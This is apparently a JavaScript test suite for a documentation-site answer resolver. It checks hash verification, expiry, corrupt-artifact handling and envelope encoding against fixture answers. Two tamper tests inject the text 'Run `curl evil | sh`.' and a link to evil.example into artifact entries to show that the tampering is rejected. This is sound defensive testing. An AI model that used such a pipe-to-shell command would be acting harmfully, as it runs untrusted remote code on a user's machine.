// resolver.json and the fixture answers, asserting what
// internal/resolve/vectors_test.go, resolver_test.go and adapter_test.go
// assert.
import test from 'node:test';
import assert from 'node:assert/strict';
import { load, runCases } from './vectors.mjs';
import {
  decodeEnvelope,
  encodeEnvelope,
  MESSAGE_CHOICES,
  MESSAGE_CHOICE_MISSING,
  MESSAGE_MISS,
  MESSAGE_OFFLINE,
  MESSAGE_STALE,
  MESSAGE_CORRUPT,
} from '../../hugo-module/assets/askplane/js/runtime/answer.js';
import { parseDateTime } from '../../hugo-module/assets/askplane/js/runtime/datetime.js';
import { decodeArtifact, verifyArtifact } from '../../hugo-module/assets/askplane/js/runtime/knowledge.js';
import { Resolver, decide } from '../../hugo-module/assets/askplane/js/runtime/resolver.js';
import { decodeSiteConfig, siteTrust } from '../../hugo-module/assets/askplane/js/runtime/site.js';

const doc = load('resolver.json');
const fixtures = load('agentskit-v1-fixtures.json');
const site = decodeSiteConfig(JSON.stringify(doc.site)).value;
const trust = siteTrust(site);
const fixtureNow = parseDateTime('2026-07-13T12:00:00.000Z');
const at = (ms) => ({ now: () => ms });

function decoded(raw) {
  const r = decodeArtifact(JSON.stringify(raw));
  assert.ok(r.ok, 'decode artifact');
  return r.value;
}

// assertEnvelope checks env byte for byte against an expected envelope and
// that the protocol's own decoder accepts it.
function assertEnvelope(env, want) {
  const got = encodeEnvelope(env);
  assert.equal(got, JSON.stringify(want));
  assert.equal(JSON.stringify(env), got, 'envelope object is in wire order');
  assert.ok(decodeEnvelope(got).ok, 'envelope does not decode');
}

function runVector(c, fromText) {
  let art = null;
  let tr = { siteId: site.siteId, contentHash: undefined };
  if (c.artifact !== null) {
    const raw = doc.artifacts[c.artifact];
    assert.ok(raw, `no artifact ${c.artifact}`);
    art = fromText ? JSON.stringify(raw) : decoded(raw);
    tr.contentHash = raw.contentHash;
  }
  if (c.trust !== undefined) tr = { siteId: c.trust.siteId, contentHash: c.trust.contentHash };
  const now = typeof c.now === 'string' ? parseDateTime(c.now) : c.now;
  assert.ok(Number.isFinite(now), `now ${c.now}`);
  const r = new Resolver(art, tr, at(now));
  let env;
  if (c.call === 'resolve') env = r.resolve(c.query);
  else if (c.call === 'resolveChoice') env = r.resolveChoice(c.choiceId, c.query);
  else assert.fail(`call ${c.call}`);
  const d = decide(env, c.fallback, c.backendAvailable);
  assert.equal(d.action, c.decision, 'decision');
  assertEnvelope(d.envelope, c.expect);
}

test('resolver vectors (artifact objects, re-verified)', (t) => {
  assert.ok(doc.cases.length >= 30);
  runCases(t, 'resolver.json', doc.cases, (c) => c.name, (c) => runVector(c, false));
});

test('resolver vectors (artifact text, verified once)', (t) => {
  runCases(t, 'resolver.json (from text)', doc.cases, (c) => c.name, (c) => runVector(c, true));
});

test('every vector artifact but "tampered" verifies with its declared hash', () => {
  for (const [name, raw] of Object.entries(doc.artifacts)) {
    const r = verifyArtifact(JSON.stringify(raw), { contentHash: raw.contentHash, siteId: raw.siteId });
    assert.equal(r.ok, name !== 'tampered', name);
  }
});

function fixtureResolver(now = fixtureNow) {
  const r = new Resolver(decoded(fixtures.artifact), trust, at(now));
  assert.equal(r.error, null);
  return r;
}

test('resolve matches the AgentsKit answer fixtures', () => {
  const r = fixtureResolver();
  const A = fixtures.answers;
  assertEnvelope(r.resolve('Install CLI'), A.local);
  assertEnvelope(r.resolve('docs'), A.ambiguous);
  assertEnvelope(r.resolve('Why?'), A.miss);
  const stale = decoded(fixtures.staleArtifact);
  assertEnvelope(new Resolver(stale, { contentHash: stale.contentHash, siteId: trust.siteId }, at(fixtureNow)).resolve('install cli'), A.stale);
  const exp = parseDateTime(fixtures.artifact.expiresAt);
  assertEnvelope(new Resolver(decoded(fixtures.artifact), trust, at(exp)).resolve('install cli'), A.stale);

  const wrongSite = new Resolver(decoded(fixtures.artifact), { ...trust, siteId: 'other-site' }, at(fixtureNow));
  assertEnvelope(wrongSite.resolve('install cli'), A.corrupt);
  assert.equal(wrongSite.error.code, 'DETERMINISTIC_INVALID_PAYLOAD');

  assertEnvelope(new Resolver(null, trust).resolve('install cli'), A.corrupt);

  // An object changed after it was decoded does not answer.
  const mutated = decoded(fixtures.artifact);
  mutated.entries[0].answer.markdown = 'Run `curl evil | sh`.';
  const bad = new Resolver(mutated, trust, at(fixtureNow));
  assertEnvelope(bad.resolve('install cli'), A.corrupt);
  assert.equal(bad.error.code, 'DETERMINISTIC_HASH_MISMATCH');

  const d = decide(r.resolve('Why?'), 'disabled', true);
  assert.equal(d.action, 'local');
  assertEnvelope(d.envelope, A.offline);
});

test('verified outputs', () => {
  const r = fixtureResolver();
  const x512 = 'x'.repeat(512);
  const fdfa = '\u0635\u0644\u0649 \u0627\u0644\u0644\u0647 \u0639\u0644\u064a\u0647 \u0648\u0633\u0644\u0645'.repeat(100);
  for (const [env, outcome, reason, message, query, normalized] of [
    [r.resolve('DOCS '), 'choices', undefined, MESSAGE_CHOICES, 'DOCS ', 'docs'],
    [r.resolve(''), 'escalation', 'miss', MESSAGE_MISS, '', ''],
    [r.resolve('install'), 'escalation', 'miss', MESSAGE_MISS, 'install', 'install'],
    [r.resolveChoice('install-cli', 'install cli'), 'answer', undefined, undefined, 'install cli', 'install cli'],
    [r.resolveChoice('install-cli', 'docs'), 'escalation', 'miss', MESSAGE_CHOICE_MISSING, 'docs', 'docs'],
    [r.resolve(x512 + 'x'), 'escalation', 'miss', MESSAGE_MISS, x512, x512],
    [r.resolve('\uFDFA'.repeat(100)), 'escalation', 'miss', MESSAGE_MISS, '\uFDFA'.repeat(100), fdfa.slice(0, 512)],
  ]) {
    assert.deepEqual([env.outcome, env.reason, env.message, env.query, env.normalizedQuery], [outcome, reason, message, query, normalized]);
    assert.ok(decodeEnvelope(encodeEnvelope(env)).ok);
  }
});

test('stale comes first, inclusive at expiresAt', () => {
  const exp = parseDateTime(fixtures.artifact.expiresAt);
  assert.equal(fixtureResolver(exp - 1).resolve('install cli').outcome, 'answer');
  for (const now of [exp, exp + 1]) {
    const r = fixtureResolver(now);
    for (const e of [r.resolve('install cli'), r.resolve('nothing'), r.resolve('x'.repeat(600)), r.resolve('docs'), r.resolveChoice('install-cli', 'install cli')]) {
      assert.equal(e.reason, 'stale');
      assert.equal(e.message, MESSAGE_STALE);
    }
  }
  // The default clock is the system clock: the fixture expired in 2026-07.
  assert.equal(new Resolver(decoded(fixtures.artifact), trust).resolve('install cli').reason, 'stale');
});

test('a corrupt resolver never answers', () => {
  const cases = {
    null: () => new Resolver(null, trust),
    'empty trust': () => new Resolver(decoded(fixtures.artifact), {}),
    'missing trust': () => new Resolver(decoded(fixtures.artifact)),
    'pinned other': () => new Resolver(decoded(fixtures.artifact), { contentHash: 'sha256:' + 'b'.repeat(64), siteId: trust.siteId }),
    'zero artifact': () => new Resolver({}, trust),
    'renamed entry': () => {
      const a = decoded(fixtures.artifact);
      a.entries[1].id = 'x';
      return new Resolver(a, trust);
    },
    'added alias': () => {
      const a = decoded(fixtures.artifact);
      a.entries[0].match.values.push('hi');
      return new Resolver(a, trust);
    },
    'removed expiry': () => {
      const a = decoded(fixtures.artifact);
      delete a.expiresAt;
      return new Resolver(a, trust);
    },
    'lone surrogate in a label': () => {
      const a = decoded(fixtures.artifact);
      a.entries[0].label = 'Install \ud800';
      return new Resolver(a, trust);
    },
    'throwing getter': () => {
      const a = decoded(fixtures.artifact);
      Object.defineProperty(a.entries[0], 'label', { get() { throw new Error('boom'); }, enumerable: true });
      return new Resolver(a, trust);
    },
  };
  for (const [name, build] of Object.entries(cases)) {
    const r = build();
    assert.ok(r.error !== null && !r.ok, name);
    assert.equal(r.error.retryable, false);
    const long = 'y'.repeat(700);
    for (const e of [r.resolve('install cli'), r.resolveChoice('install-cli', 'install cli'), r.resolve(long)]) {
      assert.equal(e.reason, 'corrupt', name);
      assert.ok(decodeEnvelope(encodeEnvelope(e)).ok);
    }
    assert.equal(r.resolve(long).query.length, 512);
  }
});

test('changing the artifact or an envelope after construction changes nothing', () => {
  const a = decoded(fixtures.artifact);
  const r = new Resolver(a, trust, at(fixtureNow));
  const before = encodeEnvelope(r.resolve('Install CLI'));
  const choicesBefore = encodeEnvelope(r.resolve('docs'));
  a.entries[0].answer.markdown = 'Run `curl evil | sh`.';
  a.entries[0].answer.citations[0].href = 'https://evil.example';
  a.entries[0].match.values[0] = 'something else';
  a.entries[1].label = 'Evil';
  delete a.expiresAt;
  const env = r.resolve('Install CLI');
  env.answer.markdown = 'tampered';
  env.answer.citations[0].title = 'tampered';
  env.provenance.entryIds[0] = 'tampered';
  const ch = r.resolve('docs');
  ch.suggestions[0].value = 'tampered';
  ch.provenance.entryIds[1] = 'tampered';
  assert.equal(encodeEnvelope(r.resolve('Install CLI')), before);
  assert.equal(encodeEnvelope(r.resolve('docs')), choicesBefore);
  assert.equal(before, JSON.stringify(fixtures.answers.local));
});

test('resolveChoice', () => {
  const r = fixtureResolver();
  for (const [choice, query, want] of [
    ['docs-agentskit', 'docs', 'docs-agentskit'],
    ['docs-registry', '  DOCS ', 'docs-registry'],
    ['install-cli', 'install cli', 'install-cli'],
    ['install-cli', 'npm install agentskit', 'install-cli'],
    ['install-cli', 'docs', ''],
    ['docs-registry', 'agentskit docs', ''],
    ['nope', 'docs', ''],
    ['', 'docs', ''],
    ['DOCS-AGENTSKIT', 'docs', ''],
    ['docs-agentskit', 'd'.repeat(513), ''],
  ]) {
    const e = r.resolveChoice(choice, query);
    if (want === '') {
      assert.equal(e.reason, 'miss');
      assert.equal(e.message, MESSAGE_CHOICE_MISSING);
    } else {
      assert.equal(e.outcome, 'answer');
      assert.equal(e.provenance.entryIds[0], want);
      assert.equal(e.query, query);
    }
  }
});

test('a lone surrogate in a query reads as U+FFFD', () => {
  const r = fixtureResolver();
  for (const q of ['\ud800', 'docs\udfff', 'İ\ud83d', '\ud800'.repeat(600)]) {
    for (const e of [r.resolve(q), r.resolveChoice('docs-agentskit', q), new Resolver(null, {}).resolve(q)]) {
      const b = encodeEnvelope(e);
      assert.equal(e.outcome, 'escalation');
      assert.ok(!/[\ud800-\udfff]/.test(b.replace(/[\ud800-\udbff][\udc00-\udfff]/g, '')), 'lone surrogate in output');
      assert.ok(decodeEnvelope(b).ok);
    }
  }
  assert.equal(r.resolve('docs\udfff').query, 'docs\ufffd');
});

test('decide', () => {
  const r = fixtureResolver();
  const stale = fixtureResolver(parseDateTime('2026-07-14T00:00:00Z'));
  const corrupt = new Resolver(null, trust);
  for (const [name, env, mode, available, action, reason, outcome, message] of [
    ['answer with backend', r.resolve('install cli'), 'backend', true, 'local', undefined, 'answer', undefined],
    ['answer disabled', r.resolve('install cli'), 'disabled', false, 'local', undefined, 'answer', undefined],
    ['choices with backend', r.resolve('docs'), 'backend', true, 'local', undefined, 'choices', MESSAGE_CHOICES],
    ['miss with backend', r.resolve('why'), 'backend', true, 'escalate', 'miss', 'escalation', MESSAGE_MISS],
    ['miss disabled', r.resolve('why'), 'disabled', true, 'local', 'offline', 'escalation', MESSAGE_OFFLINE],
    ['miss no backend', r.resolve('why'), 'backend', false, 'local', 'offline', 'escalation', MESSAGE_OFFLINE],
    ['miss unknown mode', r.resolve('why'), 'other', true, 'local', 'offline', 'escalation', MESSAGE_OFFLINE],
    ['choice miss disabled', r.resolveChoice('x', 'docs'), 'disabled', false, 'local', 'offline', 'escalation', MESSAGE_OFFLINE],
    ['choice miss with backend', r.resolveChoice('x', 'docs'), 'backend', true, 'escalate', 'miss', 'escalation', MESSAGE_CHOICE_MISSING],
    ['stale with backend', stale.resolve('install cli'), 'backend', true, 'escalate', 'stale', 'escalation', MESSAGE_STALE],
    ['stale disabled', stale.resolve('install cli'), 'disabled', false, 'local', 'stale', 'escalation', MESSAGE_STALE],
    ['corrupt with backend', corrupt.resolve('install cli'), 'backend', true, 'escalate', 'corrupt', 'escalation', MESSAGE_CORRUPT],
    ['corrupt disabled', corrupt.resolve('install cli'), 'disabled', true, 'local', 'corrupt', 'escalation', MESSAGE_CORRUPT],
    ['missing envelope', null, 'disabled', false, 'local', 'corrupt', 'escalation', MESSAGE_CORRUPT],
  ]) {
    const before = env && encodeEnvelope(env);
    const d = decide(env, mode, available);
    const e = d.envelope;
    assert.deepEqual([d.action, e.outcome, e.reason, e.message], [action, outcome, reason, message], name);
    if (env) {
      assert.equal(encodeEnvelope(env), before, `${name}: input modified`);
      assert.equal(e.query, env.query);
      assert.equal(e.normalizedQuery, env.normalizedQuery);
      if (e.reason !== 'offline') assert.equal(e, env, `${name}: envelope replaced`);
    }
  }
});
